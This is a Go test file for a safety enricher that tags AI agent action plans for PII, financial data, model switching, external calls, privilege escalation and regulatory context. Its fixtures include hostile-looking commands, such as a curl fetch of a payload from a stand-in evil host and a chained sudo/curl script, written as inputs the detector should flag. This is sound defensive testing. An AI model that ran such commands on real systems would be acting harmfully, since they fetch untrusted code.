package enrich

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/clearline-labs/warden/pkg/contracts"
)

func newTestEnricher(t *testing.T, opts ...Option) *Enricher {
	t.Helper()
	e, err := New(opts...)
	require.NoError(t, err)
	t.Cleanup(e.Close)
	return e
}

func tagByName(tp *contracts.TaggedPlan, name string) *contracts.SafetyTag {
	for i := range tp.Tags {
		if tp.Tags[i].Name == name {
			return &tp.Tags[i]
		}
	}
	return nil
}

func TestEnrich_EmailYieldsPII(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "send_report",
		"params": map[string]any{"recipient": "analyst@example.com"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})

	pii := tagByName(tp, "pii")
	require.NotNil(t, pii)
	assert.GreaterOrEqual(t, pii.Confidence, 0.5)
	assert.Equal(t, contracts.CategoryDataSensitivity, pii.Category)
}

func TestEnrich_ObfuscatedEmailStillDetected(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "send_report",
		"params": map[string]any{"recipient": "analyst (at) example (dot) com"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	require.NotNil(t, tagByName(tp, "pii"))
}

func TestEnrich_PIIConfidenceIsCeilingNotSum(t *testing.T) {
	e := newTestEnricher(t)
	// Email + SSN + phone + PII field names: max single signal is the SSN.
	plan := contracts.ActionPlan{
		"action": "export",
		"params": map[string]any{
			"email": "a@b.com",
			"ssn":   "123-45-6789",
			"phone": "+1 555 123 4567",
		},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	pii := tagByName(tp, "pii")
	require.NotNil(t, pii)
	assert.LessOrEqual(t, pii.Confidence, 1.0)
	assert.InDelta(t, 0.95, pii.Confidence, 0.001)
}

func TestEnrich_Financial(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "process_payment",
		"params": map[string]any{"amount": 120.50, "currency": "USD"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	fin := tagByName(tp, "financial")
	require.NotNil(t, fin)
	assert.GreaterOrEqual(t, fin.Confidence, 0.75)
}

func TestEnrich_ModelSwitchSingleWeakHintRejected(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "summarize",
		"params": map[string]any{"note": "the model performed well"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	assert.Nil(t, tagByName(tp, "model_switch"))
}

func TestEnrich_ModelSwitchStrongHint(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "run_task",
		"params": map[string]any{"config": map[string]any{"script": "switch_model to gpt-9"}},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	ms := tagByName(tp, "model_switch")
	require.NotNil(t, ms)
	assert.GreaterOrEqual(t, ms.Confidence, 0.8)
}

func TestEnrich_ExternalCallURLInEmbeddedCommand(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "maintenance",
		"params": map[string]any{"command": "curl https://evil.example.net/payload"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	ext := tagByName(tp, "external_call")
	require.NotNil(t, ext)
	assert.GreaterOrEqual(t, ext.Confidence, 0.85)
}

func TestEnrich_PrivilegeEscalationByActionPrefix(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{"action": "delete_user_data", "params": map[string]any{}}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	priv := tagByName(tp, "privilege_escalation")
	require.NotNil(t, priv)
	assert.InDelta(t, 0.85, priv.Confidence, 0.001)
}

func TestEnrich_RegulatoryEUContextLowersThreshold(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "archive",
		"params": map[string]any{"note": "subject gave consent"},
	}

	// One keyword hit: confidence 0.5, below the default 0.6 threshold.
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	assert.Nil(t, tagByName(tp, "regulatory"))

	// The same plan in an EU context clears the lowered threshold.
	euCtx := &contracts.VerificationContext{Metadata: map[string]any{"region": "EU"}}
	tp = e.Enrich(context.Background(), plan, euCtx)
	assert.NotNil(t, tagByName(tp, "regulatory"))
}

func TestEnrich_BenignPlanYieldsNoTags(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "generate_summary",
		"params": map[string]any{"topic": "quarterly planning"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
	assert.Empty(t, tp.Tags)
}

type explodingDetector struct{}

func (explodingDetector) Name() string { return "exploding" }
func (explodingDetector) Detect(Input) (*contracts.SafetyTag, error) {
	panic("detector bug")
}

type failingDetector struct{}

func (failingDetector) Name() string { return "failing" }
func (failingDetector) Detect(Input) (*contracts.SafetyTag, error) {
	return nil, errors.New("upstream unavailable")
}

func TestEnrich_DetectorFailureNeverAbortsBatch(t *testing.T) {
	e := newTestEnricher(t, WithDetector(explodingDetector{}), WithDetector(failingDetector{}))
	plan := contracts.ActionPlan{
		"action": "send_report",
		"params": map[string]any{"recipient": "analyst@example.com"},
	}
	tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})

	// The PII detector still ran despite two broken detectors after it.
	assert.NotNil(t, tagByName(tp, "pii"))
}

func TestEnrich_AllConfidencesWithinBounds(t *testing.T) {
	e := newTestEnricher(t)
	plans := []contracts.ActionPlan{
		{"action": "delete_user_data", "params": map[string]any{"ssn": "123-45-6789"}},
		{"action": "process_payment", "params": map[string]any{"amount": 5, "currency": "EUR", "url": "https://pay.example.com"}},
		{"action": "run", "params": map[string]any{"script": "sudo switch_model gpt-9; curl https://x.test"}},
	}
	for _, plan := range plans {
		tp := e.Enrich(context.Background(), plan, &contracts.VerificationContext{})
		for _, tag := range tp.Tags {
			assert.GreaterOrEqual(t, tag.Confidence, 0.0, "tag %s", tag.Name)
			assert.LessOrEqual(t, tag.Confidence, 1.0, "tag %s", tag.Name)
		}
	}
}

func TestEnrich_CacheHit(t *testing.T) {
	e := newTestEnricher(t)
	plan := contracts.ActionPlan{
		"action": "send_report",
		"params": map[string]any{"recipient": "analyst@example.com"},
	}
	vctx := &contracts.VerificationContext{UserID: "u1", SessionID: "s1"}

	first := e.Enrich(context.Background(), plan, vctx)
	assert.False(t, first.CacheHit)
	e.cache.Wait()

	second := e.Enrich(context.Background(), plan, vctx)
	assert.True(t, second.CacheHit)
	assert.Equal(t, first.Tags, second.Tags)
}

func TestEnrich_CacheDisabled(t *testing.T) {
	e := newTestEnricher(t, WithCacheCapacity(0))
	plan := contracts.ActionPlan{"action": "noop", "params": map[string]any{}}
	vctx := &contracts.VerificationContext{}

	assert.False(t, e.Enrich(context.Background(), plan, vctx).CacheHit)
	assert.False(t, e.Enrich(context.Background(), plan, vctx).CacheHit)
}

func TestNewSafetyTag_RejectsOutOfRange(t *testing.T) {
	_, err := contracts.NewSafetyTag("x", contracts.CategorySecurityRisk, 1.2, "test")
	assert.Error(t, err)
	_, err = contracts.NewSafetyTag("x", contracts.CategorySecurityRisk, -0.1, "test")
	assert.Error(t, err)
}
